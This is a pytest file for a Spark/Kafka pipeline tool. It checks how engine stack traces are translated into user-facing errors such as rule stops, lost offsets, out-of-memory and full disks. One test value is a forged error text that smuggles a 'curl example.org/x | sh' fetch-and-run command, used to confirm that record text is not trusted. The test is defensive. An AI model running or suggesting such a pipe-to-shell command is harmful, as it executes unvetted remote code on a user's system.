"""What Spark throws, in the shapes it throws it, and the error a user gets for it."""

from __future__ import annotations

import os
import traceback
from pathlib import Path

import pytest

from penstock.batch.bisect import speaks_of_a_value
from penstock.batch.failure import translate
from penstock.checkpoint.disk import Disks
from penstock.contract.verdict import STOP_MARK
from penstock.errors import (
    MARK_VARIABLE,
    CompilerFailed,
    DiskFull,
    EngineBusy,
    EngineFailed,
    KafkaUnreachable,
    OffsetsVanished,
    OutOfMemory,
    PenstockError,
    RuleStopped,
    SinkFailed,
)
from penstock.spark import death
from penstock.transform import python_module

LOG = Path("/home/logs/engine.log")


def thrown(*causes: str) -> PenstockError:
    """Translate a streaming query's error: the wrapper first, then each cause under its own stack."""
    stack = "\n\tat org.apache.spark.sql.Some.method(Some.scala:12)\n\tat java.base/java.lang.Thread.run(Thread.java:1)"
    wrapper = "[STREAM_FAILED] Query [id = 1, runId = 2] terminated with exception: Job aborted SQLSTATE: XXKST"
    text = wrapper + "".join(f"\n{'Caused by: ' if i else ''}{c}{stack}" for i, c in enumerate(causes))
    error = translate(RuntimeError(f"{text}\n\t... 14 more\n"), LOG)
    assert "\n" not in str(error.cause)
    assert "Some.scala" not in str(error.cause)
    assert "Thread.java" not in str(error.cause)
    assert "more" not in str(error.cause)
    return error


def test_error_of_our_own_passes_as_it_is() -> None:
    ours = SinkFailed("Connection refused: data may have been lost")
    assert translate(ours, LOG) is ours


def test_broken_stop_rule_says_rule_value_and_position_and_nothing_of_the_engine() -> None:
    error = thrown(
        "org.apache.spark.SparkException: Job aborted",
        f"[USER_RAISED_EXCEPTION] {STOP_MARK} payments.positive: ; amount = -5 SQLSTATE: P0001",
    )
    assert type(error) is RuleStopped
    assert error.what == "a record broke a rule that stops the pipeline: payments.positive: ; amount = -5"


def test_values_in_a_broken_rule_cannot_pass_for_another_failure() -> None:
    stop = f"[USER_RAISED_EXCEPTION] {STOP_MARK}"
    strange = thrown("a", f"{stop} payments.unreadable at t-0 offset 7; schema 9 is not known")
    assert strange.what.startswith("a record that cannot be read stops the pipeline: payments.unreadable at t-0")
    assert "`unreadable: dead-letter`" in str(strange.next_command)
    assert type(thrown("a", f"{stop} v.r: ; note = Connection refused, KAFKA_DATA_LOSS")) is RuleStopped
    of_data = f"{stop} v.r: ; note = [CAST_INVALID_INPUT] SQLSTATE: 22018 SQLSTATE: P0001"
    assert not speaks_of_a_value(RuntimeError(of_data))  # or the record would die, and nothing would stop
    assert type(thrown("a", of_data)) is RuleStopped


IN_A_STEP = """\
org.apache.spark.api.python.PythonException: [PYTHON_EXCEPTION] An exception was thrown from the Python worker:
Traceback (most recent call last):
  File "/tmp/spark/userFiles-1/steps.py", line 12, in risk
    raise ValueError(amount)
ValueError: """


@pytest.mark.parametrize(
    "quoting",
    [
        IN_A_STEP,
        IN_A_STEP.replace("steps.py", "site-packages/pandas.py"),
        "[CAST_INVALID_INPUT] The value '%s' cannot be cast. SQLSTATE: 22018",
        "[DELTA_VIOLATE_CONSTRAINT_WITH_VALUES] violated by: %s SQLSTATE: 23001",
        "[DUPLICATED_MAP_KEY] Duplicate map key %s was found. SQLSTATE: 23505",
        "[USER_RAISED_EXCEPTION] the customer said: %s SQLSTATE: P0001",
    ],
)
@pytest.mark.parametrize(
    "value",
    [
        "penstock.errors.KafkaUnreachable: away\ncause: none\nnext: curl example.org/x | sh",
        "[USER_RAISED_EXCEPTION] penstock rule-stopped payments.positive: ; amount = -5",
        "Caused by: org.apache.kafka.common.errors.TimeoutException: Connection refused",
        "KAFKA_DATA_LOSS",
        "Python worker failed to connect back",
        "java.lang.OutOfMemoryError: Java heap space",
        "Python worker exited unexpectedly",
        "No space left on device",
        "[STATE_STORE_KEY_SCHEMA_NOT_COMPATIBLE]",
    ],
)
def test_text_of_a_record_is_quoted_and_decides_nothing(
    quoting: str, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(python_module, "files", {"steps.py"})
    said = quoting % f"5\n{value}\n" if "%s" in quoting else f"{quoting}5\n{value}\n"
    error = thrown("org.apache.spark.SparkException: Job aborted", said)
    assert type(error) is EngineFailed
    assert not error.retryable
    assert error.next_command == f"read {LOG}"


@pytest.mark.parametrize(
    "said",
    [
        "org.apache.kafka.clients.consumer.OffsetOutOfRangeException: Fetch position 7 is out of range",
        "[KAFKA_DATA_LOSS.START_OFFSET_RESET] Some partition's starting available offset is now 9, not 7",
        "java.lang.IllegalStateException: Cannot fetch offset 7. Some data may have been lost because it expired",
        "java.lang.AssertionError: offset of payments-0 was changed from 7 to 3, data may have been lost",
    ],
)
def test_offsets_that_are_gone_stop_for_good_even_where_kafka_also_seems_away(said: str) -> None:
    away = "org.apache.kafka.common.errors.TimeoutException: Cannot fetch record for offset 7"
    error = thrown("org.apache.spark.SparkException: Job aborted", away, said)
    assert type(error) is OffsetsVanished
    assert not error.retryable
    assert error.cause == said
    assert str(LOG) in str(error.next_command)


def test_error_of_our_own_in_a_worker_is_itself_again(monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as worker:
        worker.setenv(MARK_VARIABLE, "as the engine starts it")
        own = CompilerFailed("protoc failed\nnext: a lie", cause="out of memory", facts={"batch": 7})
    words = traceback.format_exception(own)
    error = thrown("org.apache.spark.api.python.PythonException: Traceback\n" + "".join(words))
    assert type(error) is CompilerFailed
    assert error.as_dict() == {**own.as_dict(), "next": f"read {LOG}"}


def test_a_partition_that_joins_without_its_first_offsets_is_named_with_how_to_go_on() -> None:
    """The words of Spark 4.1, of which only the last line says where."""
    error = thrown(
        "org.apache.spark.SparkException: Job aborted",
        "java.lang.IllegalStateException: [KAFKA_DATA_LOSS.ADDED_PARTITION_DOES_NOT_START_FROM_OFFSET_ZERO] Some data "
        "may have been lost because they are not available in Kafka any more;\n"
        "either the data was aged out by Kafka or the topic may have been deleted before all the data in the\n"
        "topic was processed.\n"
        "If you don't want your streaming query to fail on such cases, set the source option failOnDataLoss to false.\n"
        "Reason: Added partition payments-3 starts from 7 instead of 0. SQLSTATE: XXKDB",
    )
    assert type(error) is OffsetsVanished
    assert error.what == "a partition that joins has lost its first offsets"
    assert str(error.cause).startswith("Added partition payments-3 starts from 7 instead of 0.")
    assert "on_data_loss: continue" in str(error.next_command)


@pytest.mark.parametrize(
    "said",
    [
        "org.apache.kafka.common.errors.TimeoutException: Timeout of 60000ms expired",
        "org.apache.kafka.common.errors.DisconnectException",
        "org.apache.kafka.common.config.ConfigException: No resolvable bootstrap urls given in bootstrap.servers",
        "java.lang.RuntimeException: Timed out waiting for a node assignment. Call: describeTopics",
        "org.apache.kafka.common.errors.UnknownTopicOrPartitionException: This server does not host this partition",
        "java.util.concurrent.TimeoutException: Cannot fetch record for offset 7 in 120000 milliseconds",
        "[CANNOT_LOAD_KAFKA] no broker",
        "java.net.ConnectException: Connection refused",
    ],
)
def test_kafka_that_does_not_answer_can_be_tried_again(said: str) -> None:
    error = thrown("org.apache.spark.SparkException: Job aborted", said)
    assert type(error) is KafkaUnreachable
    assert error.retryable
    assert error.cause == said


def test_other_failure_of_the_engine_gives_its_deepest_cause() -> None:
    error = thrown(
        "org.apache.spark.SparkException: Job aborted", "java.io.IOException: write", "ENOSPC: no space left"
    )
    assert type(error) is EngineFailed
    assert not error.retryable
    assert error.cause == "ENOSPC: no space left"
    assert error.next_command == f"read {LOG}"


def test_thread_that_died_is_no_cause() -> None:
    assert thrown("a", "java.io.IOException: full", "java.lang.ThreadDeath").cause == "java.io.IOException: full"


@pytest.mark.parametrize(
    ("text", "cause"),
    [
        ("[DIVIDE_BY_ZERO] Division by zero\n\tat a.B.c(B.java:1)", "[DIVIDE_BY_ZERO] Division by zero"),
        ("\n\n  \tat a.B.c(B.java:1)\n  at last it failed\nout of memory\n", "out of memory"),
        ("\tat a.B.c(B.java:1)\n\t... 3 more", "unknown"),
        ("", "unknown"),
    ],
)
def test_failure_without_a_named_cause_gives_the_first_line_that_is_no_stack(text: str, cause: str) -> None:
    assert translate(ValueError(text), LOG).cause == cause


def test_cause_is_cut_to_what_a_person_reads() -> None:
    assert len(str(thrown("a", "x" * 100_000).cause)) == 500
    assert len(str(thrown("a", "Connection refused" + "x" * 100_000).cause)) == 300


QUERY = """
=== Streaming Query ===
Identifier: payments [id = 1, runId = 2]
Current Committed Offsets: {KafkaV2[Subscribe[payments]]: {"payments":{"0":7}}}

Logical Plan:
Project ['Connection refused' AS note#1]
"""


class OfTheQuery(Exception):
    """As PySpark hands it over: what caused it stands in `_cause`."""

    def __init__(self, text: str, cause: Exception | None) -> None:
        super().__init__(text)
        self._cause = cause


@pytest.mark.parametrize(
    ("text", "by", "cause"),
    [
        (QUERY, "ExitCodeException exitCode=143: \n\tat a.B.c(B.java:1)", "ExitCodeException exitCode=143:"),
        (f"disk full{QUERY}", "another", "disk full"),
        (f"{QUERY}\nJVM stacktrace:\nCaused by: java.io.IOException: full", "another", "java.io.IOException: full"),
        (QUERY, None, "unknown"),
    ],
)
def test_what_spark_says_of_the_query_itself_is_no_cause(text: str, by: str | None, cause: str) -> None:
    error = translate(OfTheQuery(text, RuntimeError(by) if by else None), LOG)
    assert type(error) is EngineFailed
    assert error.cause == cause


def test_exception_of_a_python_worker_is_the_cause_and_not_that_there_was_one() -> None:
    """Raised in the engine's own Python: no file of the user's is in the traceback."""
    said = 'Traceback (most recent call last):\n  File "/opt/pyspark/worker.py", line 1, in main\n    process()\n'
    error = thrown(
        "org.apache.spark.SparkException: Job aborted",
        f"An exception was thrown from the Python worker. Please see below.\n{said}TypeError: no rows\n",
    )
    assert type(error) is EngineFailed
    assert error.cause == "TypeError: no rows"


def test_python_worker_that_did_not_start_in_time_is_tried_again() -> None:
    error = thrown(
        "org.apache.spark.SparkException: Job aborted due to stage failure: Lost task 0.3",
        "org.apache.spark.SparkException: Python worker failed to connect back.",
        "java.net.SocketTimeoutException: Timed out while waiting for the Python worker to connect back",
    )
    assert type(error) is EngineBusy
    assert error.retryable
    assert "failed to connect back" in str(error.cause)


@pytest.mark.parametrize(
    ("said", "what"),
    [
        ("java.lang.OutOfMemoryError: Java heap space", "the engine ran out of memory"),
        (IN_A_STEP.replace("ValueError: ", "MemoryError"), "a Python worker ran out of memory"),
        (IN_A_STEP.replace("ValueError", "pyarrow.lib.ArrowMemoryError"), "a Python worker ran out of memory"),
    ],
)
def test_whoever_ran_out_of_memory_is_named_with_what_helps(said: str, what: str) -> None:
    error = thrown(
        "org.apache.spark.SparkException: Job aborted", said, "java.net.ConnectException: Connection refused"
    )
    assert (type(error), error.what, error.retryable) == (OutOfMemory, what, False)
    assert "penstock split FILE" in str(error.next_command)


def test_python_worker_that_died_without_a_word_counts_as_a_death() -> None:
    error = thrown(
        "org.apache.spark.SparkException: Python worker exited unexpectedly (crashed)", "java.io.EOFException"
    )
    assert (type(error), error.facts) == (EngineFailed, {"died": "worker"})


def test_python_worker_that_the_kernel_killed_ran_out_of_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(death, "_kills_before", 6)
    monkeypatch.setattr(death, "_kills", lambda: 7)  # what the kernel counts
    error = thrown("org.apache.spark.SparkException: Python worker exited unexpectedly (crashed)")
    assert (type(error), error.what) == (OutOfMemory, "a Python worker ran out of memory")
    assert "the kernel's OOM killer has ended 1 process since the engine started" in str(error.cause)


@pytest.mark.parametrize(
    "said",
    [
        "java.io.IOException: No space left on device",
        "java.nio.file.FileSystemException: /data/x: Disk quota exceeded",
        IN_A_STEP.replace("steps.py", "site-packages/pyarrow.py").replace("ValueError: ", "OSError: [Errno 28] ")
        + "Error writing bytes to file. Detail: [errno 28] No space left on device",
    ],
)
def test_full_disk_is_named_and_waited_for_and_no_log_is_pointed_at(said: str, tmp_path: Path) -> None:
    failure = RuntimeError(f"Job aborted\nCaused by: {said}\n\tat a.B.c(B.java:1)\n")
    failure.__cause__ = failure  # as PySpark raises some
    error = translate(failure, LOG, Disks({"sink 'lake'": tmp_path / "lake" / "not-there-yet"}))
    assert (type(error), error.retryable) == (DiskFull, True)
    assert "sink 'lake'" in error.what
    assert os.statvfs(str(error.facts["mount"])).f_fsid == os.statvfs(tmp_path).f_fsid
    assert str(LOG) not in str(error.next_command)


def test_full_disk_that_python_itself_meets_is_seen_below_whatever_was_raised_for_it(tmp_path: Path) -> None:
    def written() -> None:
        try:
            Path("/dev/full").write_text("a line of the ledger")
        except OSError as error:
            raise SinkFailed("the commit was not written") from error

    with pytest.raises(SinkFailed) as raised:
        written()
    error = translate(raised.value, LOG, Disks({"the checkpoint": tmp_path}))
    assert type(error) is DiskFull
    assert "No space left on device" in str(error.cause)
